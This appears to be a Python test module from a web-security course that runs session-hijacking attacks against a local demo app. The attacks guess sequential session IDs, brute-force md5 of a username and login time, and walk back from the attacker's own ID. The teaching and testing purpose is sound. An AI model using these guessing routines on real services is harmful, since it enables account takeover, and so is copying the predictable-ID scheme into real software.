"""Lesson 05, station 5: counters and md5(user:time) as session IDs, against 256 random bits."""

from __future__ import annotations

import hashlib

from demo_server.context import clock

from ..auth import ALICE, BOB
from . import attack, twin_route
from ._cookies import set_cookies


def _session_id(response) -> str:
    return next(cookie.value for cookie in set_cookies(response) if cookie.name == "sid")


def _user_with(app, me: str, session_id: str) -> str | None:
    answer = app.test_client(use_cookies=False).get(me, headers={"Cookie": f"sid={session_id}"})
    return answer.json.get("user") if answer.status_code == 200 else None


@attack("/vuln/predictable-ids/counter-login")
def the_next_id_is_the_last_plus_one(app, target) -> bool:
    """Bob (the attacker, with an account of his own) logs in; Alice logs in next; Bob tries his ID + 1."""
    me = twin_route(target, "/vuln/predictable-ids", "/sessions", "/me")
    own = _session_id(app.test_client().post(target, json=BOB))
    assert app.test_client().post(target, json=ALICE).status_code == 200
    if not own.isdigit():
        return False
    return _user_with(app, me, str(int(own) + 1).zfill(len(own))) == "alice"


@attack("/vuln/predictable-ids/time-login")
def md5_of_the_name_and_the_time(app, target) -> bool:
    """Alice logs in about now; try md5('alice:<second>') for every second of the minute around now."""
    me = twin_route(target, "/vuln/predictable-ids", "/sessions", "/me")
    assert app.test_client().post(target, json=ALICE).status_code == 200
    now = int(clock(app).now())
    for second in range(now - 30, now + 31):
        if _user_with(app, me, hashlib.md5(f"alice:{second}".encode()).hexdigest()) == "alice":
            return True
    return False


@attack("/vuln/predictable-ids/me")
def walk_back_from_your_own_id(app, target) -> bool:
    """Alice logged in earlier; Bob logs in and tries the twenty IDs before his own."""
    login = "/vuln/predictable-ids/counter-login" if target.startswith("/vuln") else "/sessions/login"
    assert app.test_client().post(login, json=ALICE).status_code == 200
    own = _session_id(app.test_client().post(login, json=BOB))
    if not own.isdigit():
        return False
    earlier = [str(int(own) - step).zfill(len(own)) for step in range(1, 21) if int(own) - step > 0]
    return any(_user_with(app, target, guess) not in (None, "bob") for guess in earlier)
